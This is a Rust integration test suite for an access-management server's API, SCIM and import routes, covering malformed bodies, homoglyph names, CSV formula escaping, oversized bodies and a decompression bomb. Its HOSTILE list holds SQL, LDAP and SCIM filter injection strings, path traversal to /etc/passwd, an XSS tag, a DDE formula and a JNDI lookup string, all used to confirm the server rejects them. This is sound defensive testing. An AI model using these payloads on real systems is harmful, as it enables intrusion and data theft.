//! The bad-input matrix over a running `serve`: every route that takes a body gets
//! every bad body below (as system-admin, on real targets), every route that takes
//! path parameters gets hostile names, and list routes get hostile query strings.
//!
//! Each bad body must get a 4xx with the route's error shape (`{"error":{"code",
//! "message"}}` on the API, the SCIM error schema under `/scim/v2`), never a 5xx or a
//! dropped connection, and the store's revision must not move. Hostile names and
//! queries must never get a 5xx and never write. Names that differ from existing
//! ones only by case are refused as duplicates. CSV export neutralises formula cells.
//!
//! Not a case, by design: the `Content-Type` of a JSON body. The API reads a body as
//! JSON whatever it is labelled (so `curl -d '{…}'`, which says form-urlencoded,
//! works as the README shows); a body that is not JSON is refused all the same.
//! Import bodies are sent as `text/csv`, so there the cases are bad CSV files.

use serde_json::{Value, json};

use crate::authz::all_routes;
use crate::support::{Server, small_estate};

/// The body cases: a name, a content type and the bytes.
fn bad_bodies(body_limit: usize) -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let json = "application/json";
    let deep_array = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_object = format!("{}1{}", "{\"a\":".repeat(5_000), "}".repeat(5_000));
    let long = "x".repeat(200_000);
    let mut huge = b"{\"name\":\"".to_vec();
    huge.extend(std::iter::repeat_n(b'a', body_limit + 1024));
    huge.extend(b"\"}");
    vec![
        ("truncated JSON", json, b"{\"name\": ".to_vec()),
        ("not JSON", json, b"name=alice&x=1".to_vec()),
        ("trailing garbage", json, b"{\"name\":\"a\"} xyz".to_vec()),
        ("wrong top-level type", json, b"[1, 2, 3]".to_vec()),
        ("a number", json, b"42".to_vec()),
        ("wrong field types", json, br#"{"name": 42, "username": ["x"], "user": {}, "asset": 7, "members": "bob", "parent": true, "actions": 3, "checks": {}, "permissions": "all", "roles": 1, "schemas": 5, "userName": 9, "displayName": [], "Operations": "x", "Resources": 1}"#.to_vec()),
        ("unknown fields only", json, br#"{"no_such_field": 1, "another": "x"}"#.to_vec()),
        ("deeply nested array", json, deep_array.into_bytes()),
        ("deeply nested object", json, deep_object.into_bytes()),
        ("very long string", json, format!("{{\"name\":\"{long}\",\"username\":\"{long}\",\"userName\":\"{long}\"}}").into_bytes()),
        ("invalid UTF-8", json, b"{\"name\":\"\xff\xfe\xfd\",\"username\":\"\xc3\x28\"}".to_vec()),
        ("NUL and control characters", json, br#"{"name":"a\u0000b\u001b[31m","username":"c\u0000d"}"#.to_vec()),
        ("huge body", json, huge),
    ]
}

/// Existing targets for path parameters, so bad bodies reach the handlers.
fn real_target(segment: &str, path: &str) -> String {
    match segment {
        "{user}" => "alice".to_owned(),
        "{group}" => "ops".to_owned(),
        "{node}" => "%2FDefault%2FProd".to_owned(),
        "{asset}" => "web-01".to_owned(),
        "{rule}" => "ops-prod".to_owned(),
        "{role}" => "auditor-copy".to_owned(),
        "{token}" => "victim".to_owned(),
        "{resource}" | "{id}" if path.contains("/Users") => "USERID".to_owned(),
        _ => "no-such-thing".to_owned(),
    }
}

fn concrete(path: &str, fill: &dyn Fn(&str) -> String) -> String {
    path.split('/')
        .map(|segment| {
            if segment.starts_with('{') {
                fill(segment)
            } else {
                segment.to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join("/")
}

fn error_shape_ok(path: &str, answer: &crate::support::Answer) -> bool {
    if path.starts_with("/scim/") {
        answer.json["schemas"]
            .to_string()
            .contains("urn:ietf:params:scim:api:messages:2.0:Error")
            && answer.json["status"].is_string()
    } else {
        answer.json["error"]["code"].is_string() && answer.json["error"]["message"].is_string()
    }
}

/// Injection-shaped and hostile names and query values.
const HOSTILE: &[&str] = &[
    "' OR '1'='1",
    "\"; DROP TABLE users; --",
    "../../../../etc/passwd",
    "*",
    ")(uid=*))(|(uid=*",
    "cn=admin,dc=example,dc=com",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "%00",
    "\u{202e}evil",
    "\u{0430}lice",
    "ALICE",
    "userName eq \"alice\" or 1 eq 1",
];

fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[test]
fn bad_input_gets_a_clear_4xx_and_writes_nothing() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = Server::start(dir.path(), &[]);
    let admin = server.admin();
    small_estate(&admin);
    admin.create(
        "/api/v1/roles/system-auditor/clone",
        json!({"name": "auditor-copy"}),
    );
    admin.token("victim", &["checker"], None);
    let scim_user = admin.post(
        "/scim/v2/Users",
        &json!({"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": "scimmy"}),
    );
    assert_eq!(scim_user.status, 201, "{}", scim_user.text());
    let scim_id = scim_user.json["id"].as_str().expect("an id").to_owned();
    let routes = all_routes(&admin);
    let bodies = bad_bodies(1024 * 1024);
    let mut failures = Vec::new();
    let mut n_inputs = 0;
    let mut revision = admin.revision();
    for (method, path) in &routes {
        // The console's pages take forms and a session cookie: the console matrix
        // (authz.rs) sends each of them empty forms as every kind of user.
        if !matches!(method.as_str(), "POST" | "PUT" | "PATCH") || path.starts_with("/ui") {
            continue;
        }
        let url = concrete(path, &|segment| {
            real_target(segment, path).replace("USERID", &scim_id)
        });
        for (case, content_type, body) in &bodies {
            let import = path.ends_with("/import");
            let content_type = if import { "text/csv" } else { content_type };
            n_inputs += 1;
            let answer = match admin.try_raw(method, &url, Some(content_type), Some(body.clone())) {
                Ok(answer) => answer,
                Err(error) => {
                    failures.push(format!("{method} {path} [{case}]: no answer: {error}"));
                    continue;
                }
            };
            let now = admin.revision();
            // A file whose first line reads as a known header (`{"name": ` is the
            // column `name`) and holds no rows is a valid, empty import.
            let empty_import = import && answer.status == 200 && answer.json["revision"].is_null();
            if !(400..500).contains(&answer.status) && !empty_import {
                failures.push(format!(
                    "{method} {path} [{case}]: {} {}",
                    answer.status,
                    answer.text().chars().take(200).collect::<String>()
                ));
            } else if !empty_import && !error_shape_ok(path, &answer) {
                failures.push(format!(
                    "{method} {path} [{case}]: {} without the error shape: {}",
                    answer.status,
                    answer.text().chars().take(200).collect::<String>()
                ));
            }
            if now != revision {
                failures.push(format!("{method} {path} [{case}]: wrote revision {now}"));
                revision = now;
            }
        }
    }
    // Hostile names in every path parameter, and hostile query values, on reads.
    for (method, path) in &routes {
        if method != "GET" || path.ends_with("/watch") {
            continue;
        }
        for hostile in HOSTILE {
            let encoded = percent_encode(hostile);
            let url = if path.contains('{') {
                concrete(path, &|_| encoded.clone())
            } else {
                format!("{path}?search={encoded}&filter={encoded}&format={encoded}")
            };
            n_inputs += 1;
            match admin.try_raw("GET", &url, None, None) {
                Ok(answer) if answer.status >= 500 => {
                    failures.push(format!("GET {url}: {} {}", answer.status, answer.text()));
                }
                Ok(_) => {}
                Err(error) => failures.push(format!("GET {url}: no answer: {error}")),
            }
        }
    }
    assert_eq!(admin.revision(), revision, "hostile reads wrote something");
    assert!(
        failures.is_empty(),
        "{} of {n_inputs} inputs mishandled:\n{}",
        failures.len(),
        failures.join("\n")
    );
    eprintln!(
        "bad input: {n_inputs} inputs over {} routes, none mishandled",
        routes.len()
    );
}

#[test]
fn case_variants_and_look_alikes_of_existing_names_are_refused() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = Server::start(dir.path(), &[]);
    let admin = server.admin();
    small_estate(&admin);
    let revision = admin.revision();
    // `а`, `о`, `е` below are Cyrillic; `ａｌｉｃｅ` is fullwidth.
    let cases: &[(&str, Value, &str)] = &[
        ("/api/v1/users", json!({"username": "ALICE"}), "duplicate"),
        ("/api/v1/users", json!({"username": "Bob"}), "duplicate"),
        (
            "/api/v1/users",
            json!({"username": "dupe", "email": "ALICE@EXAMPLE.COM"}),
            "duplicate",
        ),
        ("/api/v1/groups", json!({"name": "OPS"}), "duplicate"),
        (
            "/api/v1/assets",
            json!({"name": "WEB-01", "address": "10.0.0.9"}),
            "duplicate",
        ),
        (
            "/api/v1/rules",
            json!({"name": "Ops-Prod", "users": ["alice"], "assets": ["web-01"], "accounts": ["@ALL"]}),
            "duplicate",
        ),
        (
            "/api/v1/nodes",
            json!({"name": "PROD", "parent": "/Default"}),
            "duplicate",
        ),
        (
            "/api/v1/users",
            json!({"username": "\u{430}lice"}),
            "look_alike",
        ),
        (
            "/api/v1/users",
            json!({"username": "ａｌｉｃｅ"}),
            "look_alike",
        ),
        (
            "/api/v1/users",
            json!({"username": "dupe", "email": "\u{430}lice@example.com"}),
            "look_alike",
        ),
        ("/api/v1/groups", json!({"name": "\u{43E}ps"}), "look_alike"),
        (
            "/api/v1/assets",
            json!({"name": "w\u{435}b-01", "address": "10.0.0.9"}),
            "look_alike",
        ),
        (
            "/api/v1/rules",
            json!({"name": "\u{43E}ps-prod", "users": ["alice"], "assets": ["web-01"], "accounts": ["@ALL"]}),
            "look_alike",
        ),
        (
            "/api/v1/nodes",
            json!({"name": "Pr\u{43E}d", "parent": "/Default"}),
            "look_alike",
        ),
        (
            "/api/v1/roles",
            json!({"name": "system-\u{430}dmin", "permissions": ["users.view"]}),
            "look_alike",
        ),
    ];
    for (path, body, code) in cases {
        let answer = admin.post(path, body);
        assert_eq!(answer.status, 409, "POST {path} {body}: {}", answer.text());
        assert_eq!(answer.json["error"]["code"], *code, "{}", answer.text());
    }
    let answer = admin.post("/api/v1/users", &json!({"username": "\u{430}lice"}));
    assert_eq!(
        answer.json["error"]["message"],
        "username `\u{430}lice` looks like `alice`, the username of an existing user"
    );
    // SCIM: 409 `uniqueness`, for case variants and look-alikes alike.
    let scim_user = |name: &str| json!({"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": name});
    let scim_group = |name: &str| json!({"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"], "displayName": name});
    for (path, body) in [
        ("/scim/v2/Users", scim_user("CAROL")),
        ("/scim/v2/Users", scim_user("c\u{430}rol")),
        ("/scim/v2/Users", scim_user("ＣＡＲＯＬ")),
        ("/scim/v2/Groups", scim_group("Dba")),
        ("/scim/v2/Groups", scim_group("db\u{430}")),
    ] {
        let answer = admin.post(path, &body);
        assert_eq!(answer.status, 409, "POST {path} {body}: {}", answer.text());
        assert_eq!(answer.json["scimType"], "uniqueness", "{}", answer.text());
        assert!(error_shape_ok(path, &answer), "{}", answer.text());
    }
    // Import: the look-alike is a problem on its row and column; nothing is written.
    let csv = "Username,Email\nerin,erin@example.com\nb\u{43E}b,\n";
    let answer = admin.raw(
        "POST",
        "/api/v1/users/import",
        Some("text/csv"),
        Some(csv.as_bytes().to_vec()),
    );
    assert_eq!(answer.status, 422, "{}", answer.text());
    assert_eq!(answer.json["error"]["code"], "invalid_file");
    assert_eq!(
        answer.json["error"]["problems"],
        json!([{"row": 3, "column": "Username",
                "message": "username `b\u{43E}b` looks like `bob`, the username of an existing user"}])
    );
    assert_eq!(admin.revision(), revision);
    // Case-insensitive lookups reach the same entity.
    let upper = admin.get("/api/v1/users/ALICE");
    assert_eq!(upper.status, 200);
    assert_eq!(upper.json["username"], "alice");
    // A look-alike never resolves to `alice`, so it can never reach her grants.
    let check = |user: &str| {
        admin.post(
            "/api/v1/check",
            &json!({"user": user, "asset": "web-01", "account": "root", "protocol": "ssh", "action": "connect"}),
        )
    };
    assert_eq!(check("alice").json["allowed"], true);
    assert_eq!(check("\u{430}lice").status, 404, "an unknown user");
    assert_eq!(admin.get("/api/v1/users/%D0%B0lice").status, 404);
}

#[test]
fn csv_export_neutralises_formula_cells() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = Server::start(dir.path(), &[]);
    let admin = server.admin();
    let formulas = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)"];
    for (i, formula) in formulas.iter().enumerate() {
        let answer = admin.post(
            "/api/v1/users",
            &json!({"username": format!("f{i}"), "name": formula, "description": formula}),
        );
        assert_eq!(answer.status, 201, "{}", answer.text());
    }
    let csv = admin.get("/api/v1/users/export?format=csv").text();
    for formula in formulas {
        // Every occurrence of the formula starts a cell only behind a quote mark.
        for line in csv.lines().filter(|l| l.contains(formula)) {
            for cell in split_csv(line) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@']),
                    "a formula cell is exported as is: {cell:?} in {line:?}"
                );
            }
        }
        assert!(
            csv.contains(&format!("'{formula}")),
            "`{formula}` is exported behind a `'`"
        );
    }
    // The escape round-trips: importing the export gives back the same names.
    let again = admin.raw(
        "POST",
        "/api/v1/users/import?update=true",
        Some("text/csv"),
        Some(csv.into_bytes()),
    );
    assert_eq!(again.status, 200, "{}", again.text());
    assert_eq!(admin.get("/api/v1/users/f0").json["name"], formulas[0]);
}

/// A CSV line's cells (quotes honoured, no embedded newlines).
fn split_csv(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().expect("a cell").push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            c => cells.last_mut().expect("a cell").push(c),
        }
    }
    cells
}

/// Injection-shaped names are data: each is refused with a 4xx or stored and given
/// back byte for byte, never interpreted; and injection-shaped SCIM filters never
/// widen a search.
#[test]
fn injection_shaped_values_are_stored_verbatim_or_refused() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = Server::start(dir.path(), &[]);
    let admin = server.admin();
    small_estate(&admin);
    let mut stored = 0;
    for (i, hostile) in HOSTILE.iter().enumerate() {
        let revision = admin.revision();
        let answer = admin.post(
            "/api/v1/groups",
            &json!({"name": hostile, "description": hostile}),
        );
        match answer.status {
            201 => {
                stored += 1;
                let id = answer.json["id"].as_str().expect("an id");
                let back = admin.get(&format!("/api/v1/groups/{id}"));
                assert_eq!(back.json["name"], *hostile, "group {i} round-trips");
                assert_eq!(back.json["description"], *hostile);
                let by_name = admin.get(&format!("/api/v1/groups/{}", percent_encode(hostile)));
                assert_eq!(by_name.status, 200, "`{hostile}` is found by name");
                assert_eq!(by_name.json["id"], answer.json["id"]);
            }
            400..=499 => {
                assert!(
                    error_shape_ok("/api/v1/groups", &answer),
                    "{}",
                    answer.text()
                );
                assert_eq!(
                    admin.revision(),
                    revision,
                    "`{hostile}` refused but written"
                );
            }
            other => panic!("POST group `{hostile}`: {other} {}", answer.text()),
        }
    }
    assert!(stored > 0, "some hostile names are ordinary data");
    // SCIM filters: a quote inside a string stays inside it.
    for filter in [
        r#"userName eq "nobody\" or userName pr \"""#,
        r#"userName eq "nobody" ) or ( userName pr"#,
        r#"userName eq "*""#,
        r#"userName co "%""#,
        r#"userName eq "alice" or"#,
    ] {
        let answer = admin.get(&format!("/scim/v2/Users?filter={}", percent_encode(filter)));
        match answer.status {
            200 => assert_eq!(
                answer.json["totalResults"],
                0,
                "filter {filter:?} widened the search: {}",
                answer.text()
            ),
            400 => assert_eq!(
                answer.json["scimType"],
                "invalidFilter",
                "{}",
                answer.text()
            ),
            other => panic!("filter {filter:?}: {other} {}", answer.text()),
        }
    }
}

/// An oversized body gets its 413 (not a reset), and the client's pooled connection
/// stays usable, on the API and SCIM; so do bodies refused before they are read (no
/// token, no such route). Regressions: SCIM answered 413 without reading the rest of
/// the body, and both front-ends answered 401/404 to a large unread body without
/// `Connection: close`, so a keep-alive client's next request on that connection
/// failed.
#[test]
fn oversized_bodies_get_413_and_the_next_request_works() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = Server::start(dir.path(), &[]);
    let admin = server.admin();
    let huge = vec![b'a'; 2 * 1024 * 1024];
    for (path, content_type) in [
        ("/api/v1/users", "application/json"),
        ("/api/v1/check", "application/json"),
        ("/scim/v2/Users", "application/scim+json"),
        ("/scim/v2/Bulk", "application/scim+json"),
    ] {
        for round in 0..5 {
            let answer = admin
                .try_raw("POST", path, Some(content_type), Some(huge.clone()))
                .unwrap_or_else(|error| panic!("POST {path} (round {round}): no answer: {error}"));
            assert_eq!(answer.status, 413, "POST {path}: {}", answer.text());
            let health = admin
                .try_raw("GET", "/healthz", None, None)
                .unwrap_or_else(|error| panic!("GET /healthz after POST {path}: {error}"));
            assert_eq!(health.status, 200);
        }
    }
    // Bodies under the limit that are refused before anything reads them (no token).
    let anonymous = admin.with_token(None);
    let big = vec![b'a'; 1000 * 1024];
    let cases = [
        (&anonymous, "/api/v1/users", 401),
        (&anonymous, "/scim/v2/Users", 401),
        (&anonymous, "/api/v1/users/import", 401),
        (&admin, "/api/v1/no-such-route", 404),
        (&admin, "/scim/v2/NoSuch/x/y", 404),
    ];
    for (api, path, status) in cases {
        for round in 0..5 {
            let answer = api
                .try_raw("POST", path, Some("application/json"), Some(big.clone()))
                .unwrap_or_else(|error| panic!("POST {path} (round {round}): no answer: {error}"));
            assert_eq!(answer.status, status, "POST {path}: {}", answer.text());
            let health = api
                .try_raw("GET", "/healthz", None, None)
                .unwrap_or_else(|error| panic!("GET /healthz after POST {path}: {error}"));
            assert_eq!(health.status, 200);
        }
    }
}

/// The peak resident memory of process `pid` (`VmHWM`), in bytes.
fn peak_rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc status");
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .and_then(|kb| kb.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .expect("a VmHWM line")
        * 1024
}

/// Issue #21 (6): a 412 KB XLSX raised the server's memory by 1.2 GB before its 422.
/// A 400 MiB shared string, and CSV rows that would multiply in memory, are refused
/// over HTTP with nothing imported, and the server's peak memory stays far below
/// what the bomb unpacks to.
#[test]
fn decompression_bombs_are_refused_without_unpacking_them() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let server = Server::start(dir.path(), &[]);
    let admin = server.admin();
    admin.create("/api/v1/users", json!({"username": "alice"}));
    let export = admin.get("/api/v1/users/export?format=xlsx");
    assert_eq!(export.status, 200, "{}", export.text());
    let bomb = portcullis_tabular::testing::xlsx_with_huge_shared_string(&export.bytes, 400);
    assert!(bomb.len() < 1024 * 1024, "the bomb is {} bytes", bomb.len());
    let before = admin.revision();
    let peak_before = peak_rss(server.pid());
    let answer = admin.raw(
        "POST",
        "/api/v1/users/import",
        Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        Some(bomb),
    );
    assert_eq!(answer.status, 422, "{}", answer.text());
    assert_eq!(
        answer.json["error"]["code"],
        "invalid_file",
        "{}",
        answer.text()
    );
    let grown = peak_rss(server.pid()).saturating_sub(peak_before);
    assert!(
        grown < 100 * 1024 * 1024,
        "the server's peak memory grew by {grown} bytes for a 400 MiB bomb"
    );
    for csv in [
        format!("Username,Email\nbob,{}@example.com\n", "b".repeat(200_000)),
        format!("Username,Email\nbob{}\n", ",".repeat(2_000_000)),
    ] {
        let answer = admin.raw(
            "POST",
            "/api/v1/users/import",
            Some("text/csv"),
            Some(csv.into_bytes()),
        );
        assert_eq!(answer.status, 422, "{}", answer.text());
    }
    assert_eq!(admin.revision(), before, "a refused import wrote something");
}
